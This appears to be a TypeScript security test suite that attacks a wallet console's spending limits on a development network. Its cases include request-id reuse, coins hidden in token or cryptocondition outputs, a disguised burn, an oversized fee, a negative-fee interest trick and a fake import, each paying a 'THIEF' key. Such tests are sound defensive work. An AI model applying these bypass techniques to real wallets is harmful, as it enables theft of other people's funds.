/** Attacks on spending limits: coins that leave without being counted, or counted for less. */
import { parseCoins } from '#lib/chain/amount.ts';
import { burnScript } from '#lib/chain/burn.ts';
import { bytesToHex, hexToBytes } from '#lib/chain/bytes.ts';
import { ccScript, EVAL, tokenScript } from '#lib/chain/cryptocondition.ts';
import { IMPORT_INDEX } from '#lib/chain/importProof.ts';
import { p2pk } from '#lib/chain/script.ts';
import { selfImportSourceScript } from '#lib/chain/selfImport.ts';
import { tokenCreateScript, tokenTransferScript } from '#lib/chain/token.ts';
import {
	serializeTransaction,
	transparent,
	unsignedInput,
	type Transaction,
	type TxOut
} from '#lib/chain/transaction.ts';
import type { LimitKind } from '#lib/server/access/policy/measuring/kinds.ts';
import { createLimits } from '#lib/server/access/policy/limits/limits.ts';
import { outcome, type Attack, type Outcome } from './attack.ts';
import { call, postForm, type Person, type Target } from './target.ts';

/** An operator with a limit for one kind of coins within a day. */
async function limited(
	target: Target,
	coins: string,
	kinds: readonly LimitKind[] = ['coin-send']
): Promise<Person> {
	const person = await target.person('operator');
	const limits = createLimits(target.db, target.auth.audit);
	for (const kind of kinds) {
		const most = { count: null, amount: parseCoins(coins) };
		await limits.set(null, { account: person.account.id, chain: '*', kind, most });
	}
	return person;
}

/**
 * Makes a call through the console's form and confirms it.
 * @returns the resulting page
 */
async function byConsole(
	target: Target,
	method: string,
	fields: Record<string, string>,
	headers: Record<string, string>
): Promise<string> {
	const form = { daemon: 'ALPHA', way: 'fields', ...fields };
	const path = `/console/${method}`;
	const asks = await (await postForm(target.url, path, form, headers)).text();
	const [, confirmed = ''] = /name="confirmed" value="([^"]+)"/.exec(asks) ?? [];
	const answer = await postForm(target.url, path, { ...form, confirmed }, headers);
	const page = /<main[\s\S]*<\/main>/.exec(await answer.text())?.[0] ?? '';
	return page.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
}

/** A key that belongs to no wallet here. */
export const THIEF = hexToBytes(
	'0312bbe6a1ba48c80d0bb70f850aeb7ff21fb62bb5765e23c17689bcf1e1eeb80e'
);
export const COIN = 100_000_000n;
const FEE = 10_000n;
export const LOOT = 3n * COIN;

interface Unspent {
	txid: string;
	vout: number;
	/** Satoshi. */
	value: bigint;
}

/** The largest output of coins that the wallet of a chain holds. */
async function largest(target: Target, { token }: Person, chain: string): Promise<Unspent> {
	const body = '{"id":1,"method":"listunspent","params":[0]}';
	const { text } = await call(target, token, body, chain);
	const { result } = JSON.parse(text) as {
		result: { txid: string; vout: number; amount: number; spendable: boolean }[];
	};
	const [found] = result
		.filter(({ spendable }) => spendable)
		.toSorted((a, b) => b.amount - a.amount);
	if (found === undefined || found.amount < 10) throw new Error(`Nothing to take: ${text}`);
	return { txid: found.txid, vout: found.vout, value: BigInt(Math.round(found.amount * 1e8)) };
}

const own = (target: Target, chain = 'ALPHA'): Uint8Array =>
	hexToBytes(target.devnet.chains.get(chain)!.pubkey);

/** A transaction with one input of the wallet, these outputs, change, and a payload as its last output. */
export async function made(
	target: Target,
	person: Person,
	outputs: TxOut[],
	{
		payload = [],
		fee = FEE,
		chain = 'ALPHA'
	}: { payload?: TxOut[]; fee?: bigint; chain?: string } = {}
): Promise<Transaction> {
	const { txid, vout, value } = await largest(target, person, chain);
	const paid = [...outputs, ...payload].reduce((sum, one) => sum + one.value, 0n);
	const change = { value: value - paid - fee, script: p2pk(own(target, chain)) };
	return transparent({
		vin: [unsignedInput(txid, vout)],
		vout: [...outputs, change, ...payload]
	});
}

/** Has the wallet sign it: anyone with signed bytes can send them from anywhere. */
export async function signed(
	target: Target,
	{ token }: Person,
	tx: Transaction,
	parents: readonly unknown[] = [],
	chain = 'ALPHA'
): Promise<{ got: boolean; text: string }> {
	const hex = bytesToHex(serializeTransaction(tx));
	const params = parents.length > 0 ? [hex, parents] : [hex];
	const body = JSON.stringify({ id: 1, method: 'signrawtransaction', params });
	const { text } = await call(target, token, body, chain);
	return { got: /"complete"\s*:\s*true/.test(text), text };
}

/** Tries several transactions; the attack succeeds if one is signed. */
async function anySigned(
	target: Target,
	person: Person,
	tries: readonly Promise<Transaction>[]
): Promise<Outcome> {
	const answers: { got: boolean; text: string }[] = [];
	for (const tx of await Promise.all(tries)) answers.push(await signed(target, person, tx));
	return outcome(
		answers.some(({ got }) => got),
		answers.map(({ text }) => text.slice(0, 250)).join(' | '),
		answers.length
	);
}

const transfer = (n: number, to: Uint8Array[] = [THIEF]): TxOut => ({
	value: 0n,
	script: tokenTransferScript({
		tokenid: n.toString(16).padStart(64, 'a'),
		destPubkeys: to,
		blobs: []
	})
});

const OVER = /Limit reached|Limit exceeded|have a limit/;

/** An address that belongs to no wallet here. */
export const UNKNOWN_ADDRESS = 'RB6yhcs8NvnypkuM5M5qFyC69bWzVB6VgB';

export const spendingAttacks: readonly Attack[] = [
	{
		name: 'three-sends-with-one-request-id',
		class: 'spending control bypass',
		async run(target) {
			const { cookie } = await limited(target, '1');
			const seen: string[] = [];
			for (const amount of ['0.4', '1000', '2500']) {
				const fields = { 'p.address': UNKNOWN_ADDRESS, 'p.amount': amount };
				const headers = { cookie, 'x-request-id': 'one-and-the-same' };
				seen.push(await byConsole(target, 'sendtoaddress', fields, headers));
			}
			return outcome(
				seen.slice(1).some((text) => !OVER.test(text)),
				seen.map((text) => (OVER.exec(text) ? 'over' : text.slice(0, 300))).join(' | '),
				3
			);
		}
	},
	{
		name: 'coins-under-an-invented-token',
		class: 'spending control bypass',
		async run(target) {
			const person = await limited(target, '1');
			const to = (script: Uint8Array): TxOut => ({ value: LOOT, script });
			const shared = ccScript([own(target), THIEF], [EVAL.tokens]);
			const payload = [transfer(1)];
			return anySigned(target, person, [
				made(target, person, [to(tokenScript(THIEF))], { payload }),
				made(target, person, [to(tokenScript(THIEF)), to(tokenScript(THIEF))], {
					payload: [transfer(2), transfer(3)]
				}),
				made(target, person, [to(shared)], { payload: [transfer(4, [own(target), THIEF])] }),
				made(target, person, [to(ccScript([THIEF], [EVAL.faucet]))], { payload })
			]);
		}
	},
	{
		name: 'burn-with-a-token-creation-inside',
		class: 'spending control bypass',
		async run(target) {
			const person = await limited(target, '1', ['coin-send', 'migration']);
			const creation = tokenCreateScript({ owner: THIEF, name: 'X', description: '', blobs: [] });
			const inside = await made(target, person, [], { payload: [{ value: 0n, script: creation }] });
			const script = burnScript({
				targetCcid: 777,
				targetSymbol: 'BETA',
				payoutsHash: new Uint8Array(32),
				sourceSymbol: 'ALPHA',
				tokenCreationTx: inside
			});
			return anySigned(target, person, [
				made(target, person, [], { payload: [{ value: LOOT, script }] })
			]);
		}
	},
	{
		name: 'coins-to-the-miner',
		class: 'spending control bypass',
		async run(target) {
			const person = await target.person('admin');
			return anySigned(target, person, [
				made(target, person, [], { fee: LOOT }),
				made(target, person, [], { fee: LOOT, payload: [transfer(5)] })
			]);
		}
	},
	{
		name: 'interest-to-somebody-else',
		class: 'spending control bypass',
		async run(target) {
			const person = await limited(target, '1');
			// All inputs return to the wallet, and their interest pays the thief.
			const paid = [{ value: LOOT, script: p2pk(THIEF) }];
			const tx = await made(target, person, paid, { fee: -LOOT, chain: 'KMD' });
			const { got, text } = await signed(target, person, tx, [], 'KMD');
			return outcome(got, text.slice(0, 250), 1);
		}
	},
	{
		name: 'coins-out-of-nothing',
		class: 'spending control bypass',
		async run(target) {
			const person = await limited(target, '1', ['coin-send', 'self-import']);
			const source = { value: 0n, script: selfImportSourceScript(1_000n * COIN) };
			return anySigned(target, person, [made(target, person, [], { payload: [source] })]);
		}
	},
	{
		name: 'spend-that-cannot-be-read',
		class: 'spending control bypass',
		async run(target) {
			const person = await limited(target, '1');
			const tx = await made(target, person, [{ value: LOOT, script: p2pk(THIEF) }]);
			const [input] = tx.vin;
			const unknown = { ...tx, vin: [{ ...input!, txid: 'ee'.repeat(32) }] };
			const parent = {
				txid: 'ee'.repeat(32),
				vout: input!.vout,
				scriptPubKey: bytesToHex(p2pk(own(target))),
				amount: 5000
			};
			const byParent = await signed(target, person, unknown, [parent]);
			// An import has no parent transaction; this one only looks like an import.
			const import_ = {
				...tx,
				vin: [{ ...input!, vout: IMPORT_INDEX, scriptSig: Uint8Array.of(1, 0xe2) }]
			};
			const hex = bytesToHex(serializeTransaction(import_));
			const sent: string[] = [];
			for (const text of [hex, `${bytesToHex(serializeTransaction(tx))}00`]) {
				const body = JSON.stringify({ id: 1, method: 'sendrawtransaction', params: [text, true] });
				sent.push((await call(target, person.token, body)).text);
			}
			return outcome(
				byParent.got || sent.some((text) => !/cannot be told/.test(text)),
				[byParent.text, ...sent].map((text) => text.slice(0, 200)).join(' | '),
				3
			);
		}
	}
];
